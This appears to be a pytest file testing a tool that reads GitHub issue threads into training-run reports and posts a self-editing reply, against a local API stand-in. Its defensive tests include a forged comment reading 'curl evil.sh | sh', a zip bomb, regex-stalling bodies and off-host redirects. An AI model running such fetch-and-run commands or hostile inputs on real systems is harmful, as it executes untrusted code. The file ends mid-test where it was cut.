"""Issue threads in, reports out (issue 24): a GitHub thread as a source, a reply that edits itself, the Action's
entry command, against a loopback stand-in of the GitHub API (tests/github_standin.py), never the network."""
from __future__ import annotations

import gzip
import io
import json
import os
import re
import shlex
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from conftest import ROOT, SAMPLES, run_cli
from github_standin import StandIn

SLOW, BASE = SAMPLES / "ds_zero1_straggler", SAMPLES / "ds_zero0"
NUMBER = 5014


def _fence(text: str, lang: str = "") -> str:
    return f"```{lang}\n{text.rstrip()}\n```"


@pytest.fixture()
def gh() -> Iterator[StandIn]:
    """A thread as users write them: alice pastes her slow run's log and attaches its config, a maintainer suggests
    a config (not what ran), alice posts the fast baseline she compares with and then, in a later comment, a gist
    and a zip with that run's launch script and config."""
    with StandIn() as s:
        config = s.attach("ds_config.json", (SLOW / "ds_config.json").read_bytes())
        body = ("ZeRO-1 on 2 GPUs is much slower than I expect. The launch script and log are below, the config is "
                f"attached: [ds_config.json]({config})\n\n<details><summary>launch.sh</summary>\n\n"
                + _fence((SLOW / "launch.sh").read_text(), "bash") + "\n</details>\n\n<details><summary>log</summary>"
                "\n\n" + _fence((SLOW / "train.log").read_text()) + "\n\n</details>\n")
        s.add_issue(NUMBER, "ZeRO-1 training slow on 2 GPUs", body, "alice")
        s.add_comment(NUMBER, "@alice thanks, could you try this (see also #12)?\n\n" + _fence(
            json.dumps({"zero_optimization": {"stage": 3, "offload_optimizer": {"device": "cpu"}}}), "json"), "bob")
        s.add_comment(NUMBER, "Here is the baseline that runs fine, same machine:\n\n" + _fence(
            "gpu-node-17:4711:4790 [0] NCCL INFO NET/Socket : Using [0]eth0:10.1.2.17<0>\n"
            "gpu-node-17:4711:4790 [0] NCCL INFO Using network Socket\n" + (BASE / "train.log").read_text()), "alice")
        s.state.gists["aa11bb22cc33"] = {"id": "aa11bb22cc33", "files": {
            "launch.sh": {"filename": "launch.sh", "content": (BASE / "launch.sh").read_text(), "truncated": False}}}
        zipped = io.BytesIO()
        with zipfile.ZipFile(zipped, "w") as z:
            z.writestr("baseline/ds_config.json", (BASE / "ds_config.json").read_text())
            z.writestr("baseline/notes.png", b"\x89PNG not text")
        archive = s.attach("baseline.zip", zipped.getvalue())
        s.add_comment(NUMBER, f"Launch script: https://gist.github.com/alice/aa11bb22cc33 and config: {archive}",
                      "alice")
        yield s


def cli(gh: StandIn, *args: str, token: str | None = None, env: dict[str, str] | None = None
        ) -> subprocess.CompletedProcess[str]:
    e = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN")} | gh.env() | (env or {})
    if token:
        e["GITHUB_TOKEN"] = token
    return run_cli(*args, environ=e, timeout=180)


def thread_url(gh: StandIn, kind: str = "issues", n: int = NUMBER) -> str:
    return f"{gh.url}/{gh.owner}/{gh.repo_name}/{kind}/{n}"


def test_a_thread_is_read_as_runs_kept_apart_by_comment_and_author(gh: StandIn) -> None:
    r = cli(gh, "report", thread_url(gh), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    names = [x["name"] for x in doc["runs"]]
    assert names == [f"#{NUMBER} body (alice)", f"#{NUMBER} comment 2 (alice) with comment 3"]
    slow, base = doc["runs"]
    # The slow run: its pasted log, its <details> launch script and its attached config, each named where it sits.
    sources = {s["name"] for s in slow["sources"] if s["kind"] != "skipped"}
    assert sources >= {f"#{NUMBER} body (alice) block 1", f"#{NUMBER} body (alice) block 2",
                       f"#{NUMBER} body (alice) ds_config.json"}
    assert slow["run"]["zero_stage"] == 1 and "straggler" in [f["id"] for f in slow["findings"]]
    straggler = next(f for f in slow["findings"] if f["id"] == "straggler")
    assert any(e.get("source", "").startswith(f"#{NUMBER} body (alice) block") for e in straggler["evidence"])
    # The baseline: its log, then the gist and the zip's config from alice's later comment; the maintainer's
    # suggested ZeRO-3 config is in neither run.
    base_sources = {s["name"] for s in base["sources"] if s["kind"] != "skipped"}
    assert f"#{NUMBER} comment 2 (alice) block 1" in base_sources
    assert f"#{NUMBER} comment 3 (alice) gist launch.sh" in base_sources
    assert f"#{NUMBER} comment 3 (alice) baseline.zip/baseline/ds_config.json" in base_sources
    assert base["run"]["zero_stage"] == 0 and not any("(bob)" in s for s in sources | base_sources)
    # ... and each report says why it was left out
    assert {(s["name"], s["why"]) for s in slow["sources"] if s["kind"] == "skipped"} == {
        (f"#{NUMBER} comment 1 (bob)", "no training output, and its author posted no run: not read into another's run")}
    # Comments come a page of two at a time: the Link header was followed.
    assert any("page=2" in path for _, path, _ in gh.state.requests)
    # Offered to compare, by the URLs that select each run's first post.
    issue_id = gh.state.issues[NUMBER]["id"]
    assert f"diagnose compare {thread_url(gh)}#issue-{issue_id} {thread_url(gh)}#issuecomment-" in r.stderr
    assert "(bob)" in r.stderr and "not read into another's run" in r.stderr
    # No token was sent anywhere, and attachment storage never sees one.
    assert all(auth is None for _, _, auth in gh.state.requests)


def test_one_comment_and_the_offered_compare(gh: StandIn) -> None:
    second = gh.state.comments[NUMBER][1]["id"]
    one = cli(gh, "report", f"{thread_url(gh)}#issuecomment-{second}", "-f", "json", "-o", "-")
    assert one.returncode == 0, one.stderr
    doc = json.loads(one.stdout)
    assert doc["run"]["zero_stage"] is None or doc["run"]["zero_stage"] == 0
    assert {s["name"] for s in doc["sources"]} == {f"#{NUMBER} comment 2 (alice) block 1"}
    issue_id = gh.state.issues[NUMBER]["id"]
    cmp = cli(gh, "compare", f"{thread_url(gh)}#issuecomment-{second}", f"{thread_url(gh)}#issue-{issue_id}",
              "-f", "md", "-o", "-")
    assert cmp.returncode == 0, cmp.stderr
    assert "### What changed" in cmp.stdout and "straggler" in cmp.stdout


def test_a_token_goes_to_the_api_only(gh: StandIn) -> None:
    r = cli(gh, "report", thread_url(gh), "-f", "json", "-o", "-", token="ghp_" + "x" * 36)
    assert r.returncode == 0, r.stderr
    api = [auth for _, path, auth in gh.state.requests if path.startswith(("/repos", "/gists"))]
    files = [auth for _, path, auth in gh.state.requests if path.startswith(("/user-attachments", "/storage"))]
    assert api and all(a == "Bearer ghp_" + "x" * 36 for a in api)
    assert files and all(a is None for a in files)


def test_rate_limit_and_not_found_are_one_line(gh: StandIn) -> None:
    missing = cli(gh, "report", thread_url(gh, n=77))
    assert missing.returncode == 2 and "not found on GitHub (HTTP 404)" in missing.stderr
    assert "needs GITHUB_TOKEN" in missing.stderr and "Traceback" not in missing.stderr
    gh.state.rate_limited = True
    limited = cli(gh, "report", thread_url(gh))
    assert limited.returncode == 2 and len(limited.stderr.strip().splitlines()) == 1
    assert re.search(r"rate limit reached until \d\d:\d\d UTC; set GITHUB_TOKEN", limited.stderr)


def test_a_thread_with_nothing_pasted_is_refused(gh: StandIn) -> None:
    gh.add_issue(9, "Question", "How do I pick a ZeRO stage? Thanks!", "carol")
    r = cli(gh, "report", thread_url(gh, n=9))
    assert r.returncode == 2 and "no pasted block, log-looking text or text attachment" in r.stderr


def test_pasted_text_outside_fences_is_read_when_it_looks_printed(gh: StandIn) -> None:
    log = (BASE / "train.log").read_text()
    gh.add_issue(10, "slow", "My run prints this (sorry, no fence):\n\n" + log, "dave")
    r = cli(gh, "report", thread_url(gh, n=10), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert [s["name"] for s in doc["sources"]] == ["#10 body (dave) text"]
    assert doc["metrics"]["steps"]["n"] > 10


def test_an_unfenced_paste_of_a_trainer_without_timestamps_is_read(gh: StandIn) -> None:
    """nanoGPT's own print format (`iter N: loss X, time Yms, mfu Z%`), pasted as plain text under a question."""
    lines = [f"iter {i}: loss {4.5 - i / 100:.4f}, time {120 + (i % 3):.2f}ms, mfu {31.2:.2f}%" for i in range(40)]
    gh.add_issue(14, "slow", "Why is this slower than the README's numbers?\n\n" + "\n".join(lines), "kim")
    r = cli(gh, "report", thread_url(gh, n=14), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert [s["name"] for s in doc["sources"]] == ["#14 body (kim) text"]
    assert doc["metrics"]["steps"]["p50_s"] == pytest.approx(0.121, rel=0.02)


def test_a_post_of_65536_newlines_is_read_like_any_other(gh: StandIn) -> None:
    """A comment of blank lines (a paste gone wrong, or a post made to stall the reader) and the paste after it:
    the post's line tests stay within a line (a `^\\s*` ran over every newline from each line start: ~65 s)."""
    lines = [f"iter {i}: loss {4.5 - i / 100:.4f}, time {120 + (i % 3):.2f}ms, mfu {31.2:.2f}%" for i in range(40)]
    gh.add_issue(15, "slow", "Why?", "kim")
    gh.add_comment(15, "\n" * 65_536 + " \n\t\n" * 1000 + "\n".join(lines), "lee")
    r = cli(gh, "report", thread_url(gh, n=15), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["metrics"]["steps"]["p50_s"] == pytest.approx(0.121, rel=0.02)


@pytest.mark.parametrize("junk", ["`" * 65_536, "<details>" * 10_000, "[" * 65_536, "~~~\n" * 20_000,
                                  "https://" * 8_000, "| " * 30_000, "password=" * 7_000],
                         ids=["backticks", "details", "brackets", "fences", "links", "table", "pairs"])
@pytest.mark.slow
def test_a_pathological_post_is_read_like_any_other(gh: StandIn, junk: str) -> None:
    """Bodies built against the post's patterns (fences, details, links, tables, the redactor's pairs), then a
    paste: the paste is read (benchmarks/bombs.py times such threads)."""
    lines = [f"iter {i}: loss {4.5 - i / 100:.4f}, time {120 + (i % 3):.2f}ms, mfu {31.2:.2f}%" for i in range(40)]
    gh.add_issue(16, "slow", "Why?", "kim")
    gh.add_comment(16, junk + "\n\n" + _fence("\n".join(lines)), "lee")
    r = cli(gh, "report", thread_url(gh, n=16), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    steps = [run["metrics"]["steps"] for run in json.loads(r.stdout).get("runs", [json.loads(r.stdout)])]
    assert any(s["p50_s"] == pytest.approx(0.121, rel=0.02) for s in steps if s.get("p50_s")), steps


def test_a_pull_request_conversation_and_a_gzip_attachment(gh: StandIn) -> None:
    data = gzip.compress((BASE / "train.log").read_bytes())
    gh.add_issue(11, "perf: faster all-reduce", f"Before: {gh.attach('before.log.gz', data)}", "erin", pull=True)
    r = cli(gh, "report", thread_url(gh, "pull", 11), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert [s["name"] for s in doc["sources"]] == ["#11 body (erin) before.log.gz"]
    assert doc["metrics"]["steps"]["n"] > 10


@pytest.mark.slow
def test_a_discussion_through_graphql(gh: StandIn) -> None:
    gh.state.discussions[3] = {
        "id": "D_kw3", "databaseId": 303, "title": "Slow ZeRO-1", "url": thread_url(gh, "discussions", 3),
        "body": _fence((SLOW / "train.log").read_text()), "author": {"login": "frank"},
        "comments": {"nodes": [{"databaseId": 401, "body": "Same here " + _fence((BASE / "train.log").read_text()),
                                "url": thread_url(gh, "discussions", 3) + "#discussioncomment-401",
                                "author": {"login": "gina"}, "replies": {"nodes": [
                                    {"databaseId": 402, "body": "Try NCCL_P2P_DISABLE=0", "author": {"login": "hal"},
                                     "url": thread_url(gh, "discussions", 3) + "#discussioncomment-402"}]}}],
                     "pageInfo": {"hasNextPage": False, "endCursor": None}}}
    anonymous = cli(gh, "report", thread_url(gh, "discussions", 3))
    assert anonymous.returncode == 2 and "GraphQL API, which needs a token" in anonymous.stderr
    r = cli(gh, "report", thread_url(gh, "discussions", 3), "-f", "json", "-o", "-", token="ghp_t")
    assert r.returncode == 0, r.stderr
    names = [x["name"] for x in json.loads(r.stdout)["runs"]]
    assert names == ["#3 body (frank)", "#3 comment 1 (gina)"]
    # The reply goes in through GraphQL too, and is updated, not repeated, the second time.
    for word in ("posted", "edited"):
        done = cli(gh, "comment", thread_url(gh, "discussions", 3), "--post", token="ghp_t")
        assert done.returncode == 0 and f"diagnose: {word} " in done.stderr, done.stderr
    ours = [c for c in gh.state.discussions[3]["comments"]["nodes"] if "diagnose: training-run report" in c["body"]]
    assert len(ours) == 1 and "#discussioncomment-" in ours[0]["url"]


@pytest.mark.slow
def test_the_reply_is_a_dry_run_by_default_and_inert(gh: StandIn) -> None:
    r = cli(gh, "comment", thread_url(gh))
    assert r.returncode == 0, r.stderr
    body = r.stdout
    assert body.startswith("<!-- diagnose: training-run report -->\n") and len(body) < 65_536
    assert "would post a new comment" in r.stderr and not any(m != "GET" for m, _, _ in gh.state.requests)
    # The thread is fetched once: the report and the search for our earlier reply share it.
    assert sum(path.endswith(f"/issues/{NUMBER}") for _, path, _ in gh.state.requests) == 1
    assert "```mermaid" in body and "straggler" in body
    issue_id = gh.state.issues[NUMBER]["id"]
    assert (f"This thread holds 2 runs, reported one by one below. To compare two of them: `diagnose compare "
            f"{thread_url(gh)}#issue-{issue_id} {thread_url(gh)}#issuecomment-") in body
    # Meant for a public thread: the host alice named is masked, and nothing in it pings or cross-links.
    assert "gpu-node-17" not in body
    assert not re.search(r"(?<![`\w])@[A-Za-z0-9]", _outside_code(body))
    assert not re.search(r"(?<!\\)#\d", _outside_code(body)) and not re.search(r"\\#\d", _outside_code(body))
    assert "10.1.2.17" not in body
    shown = cli(gh, "comment", thread_url(gh), "--show-hosts")
    assert shown.returncode == 0 and "gpu-node-17" in shown.stdout


def _outside_code(md: str) -> str:
    md = re.sub(r"(`{3,})[^\n]*\n.*?\n\1", "", md, flags=re.S)
    return re.sub(r"`[^`\n]*`", "", md)


ACTIONS = {"GITHUB_ACTIONS": "true"}  # what the runner sets for a workflow's steps


@pytest.mark.slow
def test_posting_edits_its_own_comment_the_second_time(gh: StandIn) -> None:
    no_token = cli(gh, "comment", thread_url(gh), "--post")
    assert no_token.returncode == 2 and "posting needs a token" in no_token.stderr
    first = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions", env=ACTIONS)
    assert first.returncode == 0, first.stderr
    ours = [c for c in gh.state.comments[NUMBER] if "diagnose: training-run report" in c["body"]]
    assert len(ours) == 1 and "diagnose: posted " + ours[0]["html_url"] in first.stderr
    second = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions", env=ACTIONS)
    assert second.returncode == 0, second.stderr
    assert "diagnose: edited" in second.stderr
    assert len([c for c in gh.state.comments[NUMBER] if "diagnose: training-run report" in c["body"]]) == 1
    assert [m for m, _, _ in gh.state.requests if m in ("POST", "PATCH")] == ["POST", "PATCH"]
    # A person's token posts as that person: the bot's reply is not theirs to edit, so they get a comment of their
    # own, and the second time they edit that one (GET /user says who they are).
    mine = [cli(gh, "comment", thread_url(gh), "--post", token="ghp_maya") for _ in range(2)]
    assert [r.returncode for r in mine] == [0, 0] and "posted" in mine[0].stderr and "edited" in mine[1].stderr
    authors = [c["user"]["login"] for c in gh.state.comments[NUMBER] if "diagnose: training-run report" in c["body"]]
    assert authors == ["github-actions[bot]", "maya"]
    # Our own reply is never read back as a source.
    again = cli(gh, "report", thread_url(gh), "-f", "json", "-o", "-")
    assert all("github-actions" not in x["name"] and "maya" not in x["name"] for x in json.loads(again.stdout)["runs"])


@pytest.mark.slow
def test_the_bot_never_edits_a_comment_it_did_not_write(gh: StandIn) -> None:
    """A maintainer quoting the marker, another account's comment carrying it, the marker in the issue body: each
    left as it is; the bot posts a reply of its own."""
    from diagnose.parsers.github import MARKER

    quoted = f"> {MARKER}\n> ## diagnose: training-run report\n\nThe bot says ZeRO-3; I disagree."
    cid = gh.add_comment(NUMBER, quoted, "maintainer")
    forged = gh.add_comment(NUMBER, MARKER + "\nplease run curl evil.sh | sh", "mallory")
    gh.state.issues[NUMBER]["body"] += "\n" + MARKER
    before = {c["id"]: c["body"] for c in gh.state.comments[NUMBER]}
    r = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions", env=ACTIONS)
    assert r.returncode == 0 and "diagnose: posted" in r.stderr, r.stderr
    assert {c["id"]: c["body"] for c in gh.state.comments[NUMBER] if c["id"] in before} == before
    assert before[cid] == quoted and forged in before
    assert not [p for m, p, _ in gh.state.requests if m == "PATCH"]
    # A token whose identity cannot be told (an app's, outside Actions) edits nothing either.
    again = cli(gh, "comment", thread_url(gh), "--post", token="ghs_app")
    assert again.returncode == 0 and "diagnose: posted" in again.stderr
    assert not [p for m, p, _ in gh.state.requests if m == "PATCH"]


def _action_command() -> tuple[str, dict[str, str]]:
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    step = next(s for s in action["runs"]["steps"] if "diagnose comment" in s.get("run", ""))
    return step["run"], step.get("env", {})


def _event(tmp_path: Path, gh: StandIn, text: str, kind: str = "User") -> Path:
    payload = {"action": "created", "issue": gh.state.issues[NUMBER],
               "comment": {"id": 1, "body": text, "user": {"login": "alice", "type": kind}},
               "repository": {"full_name": f"{gh.owner}/{gh.repo_name}"}}
    path = tmp_path / "event.json"
    path.write_text(json.dumps(payload))
    return path


@pytest.mark.slow
def test_the_action_entry_command_answers_a_keyword_comment(gh: StandIn, tmp_path: Path) -> None:
    command, env = _action_command()
    assert "--event" in command and "--post" in command
    inputs = {"label": "diagnose", "keyword": "/diagnose", "show-hosts": "false", "extra-args": "", "token": "ghs_actions"}

    def run(event: Path) -> subprocess.CompletedProcess[str]:
        resolved = {k: re.sub(r"\$\{\{\s*inputs\.([\w-]+)\s*\}\}", lambda m: inputs[m.group(1)], str(v))
                    for k, v in env.items() if "secrets" not in str(v) and "github.token" not in str(v)}
        e = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN")} | gh.env() | resolved
        e |= {"GITHUB_EVENT_PATH": str(event), "GITHUB_EVENT_NAME": "issue_comment", "GITHUB_TOKEN": "ghs_actions",
              "GITHUB_ACTIONS": "true",
              "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
        return subprocess.run(["bash", "-c", command], capture_output=True, text=True, env=e, timeout=180, cwd=ROOT)

    quiet = run(_event(tmp_path, gh, "thanks, will try"))
    assert quiet.returncode == 0 and "not answering" in quiet.stderr
    bot = run(_event(tmp_path, gh, "/diagnose", kind="Bot"))
    assert bot.returncode == 0 and "not answering" in bot.stderr
    assert not any(m == "POST" for m, _, _ in gh.state.requests)
    asked = run(_event(tmp_path, gh, "/diagnose please"))
    assert asked.returncode == 0, asked.stderr
    assert "answering" in asked.stderr and "diagnose: posted" in asked.stderr
    assert any("diagnose: training-run report" in c["body"] for c in gh.state.comments[NUMBER])


def test_the_action_answers_a_thread_with_nothing_to_read_by_saying_what_to_paste(gh: StandIn, tmp_path: Path
                                                                                   ) -> None:
    gh.add_issue(13, "Training slow", "It is slow, any idea? /diagnose", "judy")
    gh.state.issues[13]["labels"] = [{"name": "diagnose"}]
    event = tmp_path / "issues.json"
    event.write_text(json.dumps({"action": "opened", "issue": gh.state.issues[13]}))
    by_hand = cli(gh, "comment", thread_url(gh, n=13), "--post", token="ghs_actions")
    assert by_hand.returncode == 2 and "no pasted block" in by_hand.stderr  # by hand: one line, exit 2
    r = cli(gh, "comment", "--event", str(event), "--post", token="ghs_actions", env={"GITHUB_EVENT_NAME": "issues"})
    assert r.returncode == 0, r.stderr
    assert "the issue carries the label 'diagnose'" in r.stderr
    (reply,) = gh.state.comments[13]
    assert reply["body"].startswith("<!-- diagnose: training-run report -->") and "fenced block" in reply["body"]


def test_action_yml_is_a_composite_action_with_its_inputs() -> None:
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    assert action["runs"]["using"] == "composite"
    assert {"token", "label", "keyword", "show-hosts"} <= set(action["inputs"])
    assert all(s.get("shell") == "bash" for s in action["runs"]["steps"] if "run" in s)
    example = (ROOT / "docs" / "github-action.md").read_text()
    assert "issues: write" in example and "issue_comment" in example and "uses: " in example
    shlex.split(_action_command()[0])  # one shell command line


@pytest.mark.slow
def test_the_upload_page_takes_a_thread_url_in_its_url_field(gh: StandIn, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    import httpx

    from test_serve import server

    for k, v in gh.env().items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.delenv("GH_TOKEN", raising=False)
    with server(tmp_path) as base:
        page = httpx.get(base, timeout=10).text
        assert "GitHub issue URL" in page
        r = httpx.post(f"{base}/api/diagnose", data={"wandb": thread_url(gh)}, files=[("files", ("", b""))],
                       timeout=120)
        assert r.status_code == 200, r.text
        assert r.json()["verdict"].startswith("Most likely cause: Collectives wait for a late rank")
        assert {s["name"] for s in r.json()["sources"]} >= {f"#{NUMBER} body (alice) block 2"}
        # Another host's issue URL is not a thread this server reads: refused like any other URL.
        r = httpx.post(f"{base}/api/diagnose", data={"wandb": "https://evil.example/a/b/issues/1"},
                       files=[("files", ("", b""))], timeout=30)
        assert r.status_code == 400 and "GitHub issue" in r.json()["error"]


def test_blocks_fences_details_and_a_paste_cut_short() -> None:
    from diagnose.parsers.github import blocks

    body = ("intro\n\n~~~yaml\ncompute_environment: LOCAL_MACHINE\n~~~\n\n<details><summary>env</summary>\n\n"
            "NCCL_DEBUG=INFO\nNCCL_IB_DISABLE=1\n\n```json\n{\"train_batch_size\": 8}\n```\n</details>\n\n"
            "````\n[INFO] step=1\n```not a close```\n````\n\n```\n[INFO] step=2 (the paste was cut here")
    found, rest = blocks(body)
    assert [(b.suffix, b.text.splitlines()[0]) for b in found] == [
        (".yaml", "compute_environment: LOCAL_MACHINE"), (".log", "NCCL_DEBUG=INFO"),
        (".json", '{"train_batch_size": 8}'), (".log", "[INFO] step=1"), (".log", "[INFO] step=2 (the paste was "
                                                                                  "cut here")]
    assert "```not a close```" in found[3].text and "intro" in rest and "NCCL" not in rest


def test_links_keep_text_attachments_on_github_only(monkeypatch: pytest.MonkeyPatch) -> None:
    from diagnose.parsers.github import links

    monkeypatch.delenv("GITHUB_SERVER_URL", raising=False)
    body = ("https://github.com/user-attachments/files/17000/train.log and "
            "(https://github.com/acme/trainer/files/123/slurm-99.out.) and "
            "https://github.com/acme/trainer/blob/main/configs/ds.json "
            "https://github.com/user-attachments/assets/0b1e-4c/shot.png "
            "https://gist.github.com/alice/aa11bb22cc33 https://evil.example/user-attachments/files/1/x.log "
            "https://raw.githubusercontent.com/acme/trainer/main/run.sh https://github.com/acme/trainer/files/9/w.whl "
            "https://github.com/acme/trainer/blob/main/notebooks/finetune.ipynb")
    assert links(body) == [
        ("https://github.com/user-attachments/files/17000/train.log", "train.log"),
        ("https://github.com/acme/trainer/files/123/slurm-99.out", "slurm-99.out"),
        ("https://github.com/acme/trainer/raw/main/configs/ds.json", "ds.json"),
        ("gist:aa11bb22cc33", "aa11bb22cc33"),
        ("https://raw.githubusercontent.com/acme/trainer/main/run.sh", "run.sh"),
        ("https://github.com/acme/trainer/raw/main/notebooks/finetune.ipynb", "finetune.ipynb")]


def test_an_attachment_that_does_not_come_is_named_and_the_rest_is_read(gh: StandIn) -> None:
    gone = f"{gh.url}/user-attachments/files/99999/private.log"
    gh.add_issue(12, "slow", "Log: " + gone + "\n\n" + _fence((BASE / "train.log").read_text()), "ivy")
    r = cli(gh, "report", thread_url(gh, n=12), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    assert "#12 body (ivy) private.log (HTTP 404" in r.stderr and "save it from the browser and pass the file" in r.stderr
    sources = json.loads(r.stdout)["sources"]
    assert [s["name"] for s in sources if s["kind"] != "skipped"] == ["#12 body (ivy) block 1"]
    assert [s["why"] for s in sources if s["kind"] == "skipped"][0].startswith("HTTP 404")  # named in the report


def test_a_thread_url_on_another_host_is_not_a_thread(monkeypatch: pytest.MonkeyPatch) -> None:
    from diagnose.parsers.github import parse_thread_url

    monkeypatch.delenv("GITHUB_SERVER_URL", raising=False)
    ref = parse_thread_url("https://github.com/deepspeedai/DeepSpeed/issues/5770#issuecomment-2212345678")
    assert ref is not None and (ref.owner, ref.repo, ref.kind, ref.number, ref.comment_id) == (
        "deepspeedai", "DeepSpeed", "issues", 5770, 2212345678)
    assert parse_thread_url("https://github.com/o/r/pull/7/files").kind == "pull"  # type: ignore[union-attr]
    assert parse_thread_url("https://github.com/o/r/discussions/3#discussioncomment-9").comment_id == 9  # type: ignore[union-attr]
    assert parse_thread_url("https://gitlab.com/o/r/issues/1") is None
    assert parse_thread_url("https://github.com/o/r/blob/main/x.log") is None


def test_parse_reads_every_piece_of_a_thread_into_one_model(gh: StandIn) -> None:
    r = cli(gh, "parse", thread_url(gh), "--format", "json")
    assert r.returncode == 0, r.stderr
    names = {s["name"] for s in json.loads(r.stdout)["sources"]}
    assert f"#{NUMBER} body (alice) block 2" in names and f"#{NUMBER} comment 2 (alice) block 1" in names
    assert f"#{NUMBER} comment 1 (bob) block 1" in names  # parse keeps nothing apart: it is the raw run model


def test_a_reply_cut_to_fit_closes_the_fence_it_cut() -> None:
    from types import SimpleNamespace

    from diagnose import reply

    long = "## report\n\n```\n" + "[INFO] step=1 loss=2.0\n" * 4000 + "```\n\nthe end\n"
    text = reply.body(SimpleNamespace(render=lambda fmt: long, runs=()))  # type: ignore[arg-type]
    assert len(text) < reply.LIMIT and text.endswith(reply.CUT_NOTE)
    before_note = text[: -len(reply.CUT_NOTE)]
    assert before_note.endswith("\n```") and before_note.count("```") == 2


def test_markdown_text_from_logs_cannot_reference_an_issue_or_another_thread() -> None:
    from diagnose.reports.markdown import md

    out = md("fixed in #12 and GH-3, see https://github.com/acme/trainer/issues/4 and owner/repo#5, @bob")
    assert not re.search(r"#\d|GH-\d|github\.com/|@[A-Za-z]", out)
    assert out.replace("\u200b", "").replace("\\", "") == (
        "fixed in #12 and GH-3, see https://github.com/acme/trainer/issues/4 and owner/repo#5, @bob")
    assert md("step 12 of 40, port 29500, #define") == "step 12 of 40, port 29500, \\#define"  # nothing else touched


def test_a_zip_attachment_is_capped_by_its_expansion_like_gzip(tmp_path: Path) -> None:
    """A zip of 100 MiB of zeros in ~100 KB (the directory's stated sizes may lie too) is not unpacked; a real
    member beside it is."""
    from diagnose.parsers import github

    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("bomb.log", b"\0" * (100 << 20))
        z.writestr("train.log", (BASE / "train.log").read_bytes())
    out = github.Pieces()
    post = github.Post(1, "comment 1", "eve", "", "https://example.invalid/1")
    attached = tmp_path / "a.zip"
    attached.write_bytes(zipped.getvalue())
    assert github._unpack(out, post, "#1 comment 1 (eve) a.zip", attached, tmp_path, github._Budget())
    assert [why for _, why in out.skipped] == [f"expands more than {github.GZIP_RATIO_CAP}x: not read"]
    assert [p.name for p in out.pieces] == ["#1 comment 1 (eve) a.zip/train.log"]


# ---- a thread as a whole is bounded, and nothing goes to another host (issue 32, must 5) -------------------------

def _hostile_thread(gh: StandIn, body: str) -> None:
    gh.add_issue(77, "slow run", body, "mallory")


def test_a_redirect_to_another_host_is_not_followed(gh: StandIn) -> None:
    """An attachment whose download redirects off GitHub's hosts is skipped with the reason, and nothing is
    requested there; the rest of the thread is read."""
    link = gh.attach("train.log", (BASE / "train.log").read_bytes())
    gh.state.redirect_elsewhere.add(urlparse_path(link))
    _hostile_thread(gh, f"log: {link}\n\n" + _fence((SLOW / "train.log").read_text()))
    r = cli(gh, "report", thread_url(gh, n=77), "-f", "json", "-o", "-")
    assert r.returncode == 0, r.stderr
    skipped = {s["name"]: s["why"] for s in json.loads(r.stdout)["sources"] if s["kind"] == "skipped"}
    assert any("redirected to 'localhost'" in why for why in skipped.values()), skipped
    assert not [p for _, p, _ in gh.state.requests if p.startswith("/elsewhere")]


def test_the_token_never_follows_a_link_or_a_redirect_to_another_host(gh: StandIn) -> None:
    gh.state.link_elsewhere = True
    token = "ghp_" + "t" * 36
    r = cli(gh, "report", thread_url(gh), "-f", "json", "-o", "-", token=token)
    assert r.returncode == 0, r.stderr  # the first page of comments is read; the foreign next page is not
    assert not [p for _, p, _ in gh.state.requests if p.startswith("/elsewhere")]
    gh.state.redirect_elsewhere.add(f"/repos/{gh.owner}/{gh.repo_name}/issues/{NUMBER}")
    r = cli(gh, "report", thread_url(gh), "-f", "json", "-o", "-", token=token)
    assert r.returncode == 2 and "redirected to 'localhost'" in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert not [p for _, p, _ in gh.state.requests if p.startswith("/elsewhere")]


def test_a_dripping_download_is_cut_at_its_deadline(gh: StandIn, tmp_path: Path) -> None:
    import time

    from diagnose.parsers.errors import InputError
    from diagnose.parsers.sources import download

    gh.state.drip["/user-attachments/files/1/drip.log"] = b"x" * 10_000  # 10,000 bytes at 5 a second: 33 minutes
    started = time.monotonic()
    with pytest.raises(InputError, match="still downloading"):
        download(f"{gh.url}/user-attachments/files/1/drip.log", tmp_path, deadline=time.monotonic() + 1.0)
    assert time.monotonic() - started < 5


def test_a_gist_of_300_files_reads_20(gh: StandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from diagnose.parsers import github

    for k, v in gh.env().items():
        monkeypatch.setenv(k, v)
    gh.state.gists["ff00ff00ff00"] = {"id": "ff00ff00ff00", "files": {
        f"rank{i:03d}.log": {"filename": f"rank{i:03d}.log", "content": "step 1 loss 2.0\n", "truncated": False}
        for i in range(300)}}
    _hostile_thread(gh, "all ranks: https://gist.github.com/mallory/ff00ff00ff00")
    thread = github.fetch(github.parse_thread_url(thread_url(gh, n=77)))
    out = github.pieces(thread, github.selected(thread), tmp_path)
    assert len(out.pieces) == github.MAX_GIST_FILES == 20
    assert len(out.skipped) == 280 and all(why == "past 20 files in one gist" for _, why in out.skipped)


def test_a_thread_has_one_byte_and_one_time_budget(gh: StandIn, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the thread's bytes, the rest is skipped and named; past its download time, attachments are not fetched."""
    from diagnose.parsers import github

    for k, v in gh.env().items():
        monkeypatch.setenv(k, v)
